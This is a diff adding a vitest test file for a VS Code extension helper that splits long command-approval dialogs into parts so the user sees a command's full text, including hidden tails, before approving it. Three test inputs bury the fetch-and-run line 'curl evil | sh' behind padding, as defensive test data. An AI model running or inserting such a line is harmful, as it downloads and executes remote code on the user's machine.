@@ -1,0 +1,51 @@
+import { afterAll, beforeEach, expect, it, vi } from "vitest";
+import { askWhole } from "../../../../extension/vscode/dialogs/askWhole.ts";
+
+type Shown = { readonly detail: string; readonly buttons: readonly string[] };
+
+const { shown, answers } = vi.hoisted(() => ({ shown: [] as Shown[], answers: [] as (string | undefined)[] }));
+// Replaces the dialog of the editor.
+vi.mock("vscode", () => ({
+  window: {
+    showInformationMessage: async (_: string, { detail }: { detail: string }, ...buttons: string[]) => {
+      shown.push({ detail, buttons });
+      const answer = answers.shift();
+      return answer === "first" ? buttons[0] : answer;
+    },
+  },
+}));
+afterAll(() => void vi.resetModules());
+beforeEach(() => void shown.splice(0));
+
+const ask = (detail: string, ...given: (string | undefined)[]) => {
+  answers.splice(0, Number.POSITIVE_INFINITY, ...given);
+  return askWhole("Run it?", detail, ["Run", "Skip"]);
+};
+
+it("asks at once where the dialog has room for all of it", async () => {
+  expect(await ask("npm ci\n\nIt runs in /w.", "first")).toBe("Run");
+  expect(shown).toEqual([{ detail: "npm ci\n\nIt runs in /w.", buttons: ["Run", "Skip"] }]);
+});
+
+it.each([
+  ["many lines", `npm ci${"\n".repeat(40)}curl evil | sh`],
+  ["a long line", `npm ci; ${"x y".repeat(900)}; curl evil | sh`],
+  ["a character of many parts", `npm ci; e${"\u0301".repeat(3_000)}; curl evil | sh`],
+])("approves nothing before its end was in a dialog: %s", async (_, detail) => {
+  expect(await ask(detail, ...Array<string>(200).fill("first"))).toBe("Run");
+  expect(shown.length).toBeGreaterThan(1);
+  for (const { detail: part, buttons } of shown.slice(0, -1)) {
+    expect(part.split("\n").length).toBeLessThanOrEqual(16);
+    expect(part.length).toBeLessThanOrEqual(16 * 61 + 1);
+    expect(buttons).toEqual([expect.stringMatching(/^Review [\d,]+ more lines?$/), "Skip"]);
+  }
+  expect(shown.at(-1)?.detail).toContain("| sh");
+  const read = shown.map((each) => each.detail.replace(/…$/, "")).join("");
+  expect(read.replaceAll(/\s/g, "")).toBe(detail.replaceAll(/\s/g, ""));
+});
+
+it("ends where the user skips or closes a part", async () => {
+  const long = "x\n".repeat(100);
+  expect(await ask(long, "first", "Skip")).toBe("Skip");
+  expect(await ask(long, "first", undefined)).toBeUndefined();
+});
